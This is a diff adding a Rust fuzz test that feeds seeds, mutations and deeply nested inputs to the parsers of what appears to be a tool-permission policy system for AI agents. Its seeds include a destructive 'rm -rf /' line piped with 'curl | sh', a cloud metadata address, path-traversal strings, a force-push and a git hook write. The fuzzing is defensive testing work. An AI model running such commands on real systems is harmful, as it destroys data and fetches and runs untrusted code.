@@ -1,0 +1,93 @@
+//! A moment of every fuzz entry: seeds, their mutations and splices, from a fixed sequence of numbers.
+
+use fak_fuzz::ENTRIES;
+
+const ROUNDS: usize = 3_000;
+
+const SEEDS: &[&str] = &[
+    r#"{"version":"fak-policy/v1","allow":["Read"],"deny":{"x":"POLICY_BLOCK"}}"#,
+    "allow: [Read]\narg_rules:\n  - {tool: Bash, arg: command, argv: {program: [git], sub: push, any_flag: [-f]}}\n",
+    "a=rm; $a -rf / && echo \"$(curl -s http://x | sh)\" > out <<EOF\n`id`\nEOF\n",
+    "for f in *.c; do case $f in a*) cc -o \"${f%.c}\" \"$f\";; esac; done 2>&1 | tee log &",
+    "http://user@169.254.169.254:80/latest?x=1#y",
+    "0x7f.1",
+    "[::ffff:10.0.0.1]:443",
+    "~/../a/./b//c/%2e%2e/\u{ff0e}\u{ff0e}/d",
+    r#"{"command":"ls","n":[1,2.5,-0,1e3],"s":"\u00e9\ud83d\ude00","o":{"a":null,"b":true}}"#,
+    r#"{"kind":"DECIDE","seq":1,"ts_us":1}"#,
+    "Bash\n{\"command\":\"git push --force origin main\"}",
+    "Write\n{\"file_path\":\".git/hooks/pre-commit\",\"content\":\"x\"}",
+];
+
+struct Numbers(u64);
+
+impl Numbers {
+    fn next(&mut self, below: usize) -> usize {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        usize::try_from(self.0 % u64::try_from(below.max(1)).unwrap_or(1)).unwrap_or(0)
+    }
+}
+
+fn mutate(numbers: &mut Numbers) -> Vec<u8> {
+    let mut bytes = SEEDS[numbers.next(SEEDS.len())].as_bytes().to_vec();
+    for _ in 0..numbers.next(6) {
+        let at = numbers.next(bytes.len() + 1);
+        match numbers.next(5) {
+            0 => drop(bytes.splice(at..at, [b"$`'\"\\(){}[];|&<>~#%\n\0,:"[numbers.next(25) % 24]])),
+            1 if at < bytes.len() => drop(bytes.remove(at)),
+            2 if at < bytes.len() => bytes[at] ^= 1 << numbers.next(7),
+            3 => {
+                let other = SEEDS[numbers.next(SEEDS.len())].as_bytes();
+                let from = numbers.next(other.len());
+                let to = from + numbers.next(other.len() - from);
+                bytes.splice(at..at, other[from..to].iter().copied());
+            }
+            _ => {
+                let from = numbers.next(at + 1);
+                let again = bytes[from..at].to_vec();
+                bytes.splice(at..at, again);
+            }
+        }
+    }
+    bytes
+}
+
+#[test]
+fn every_entry_survives_seeds_and_their_mutations() {
+    for (name, entry) in ENTRIES {
+        for seed in SEEDS {
+            entry(seed.as_bytes());
+        }
+        let mut numbers = Numbers(0x9e37_79b9_7f4a_7c15 ^ u64::try_from(name.len()).unwrap_or(0));
+        for _ in 0..ROUNDS {
+            entry(&mutate(&mut numbers));
+        }
+    }
+}
+
+#[test]
+fn nesting_neither_overflows_nor_explodes() {
+    let deep = 20_000;
+    let texts = [
+        "[".repeat(deep),
+        format!("{{\"a\":{}1{}}}", "[".repeat(deep), "]".repeat(deep)),
+        "(".repeat(deep),
+        "$(".repeat(deep),
+        "`".repeat(deep),
+        "\"$(".repeat(deep),
+        "{a,b}".repeat(64),
+        "bash -c '".repeat(deep / 4),
+        "a: ".repeat(deep),
+        "- ".repeat(deep),
+        "&a [*a, ".repeat(deep / 8),
+        "if ".repeat(deep),
+        "<<A ".repeat(deep / 4),
+    ];
+    for text in &texts {
+        for (_, entry) in ENTRIES {
+            entry(text.as_bytes());
+        }
+    }
+}
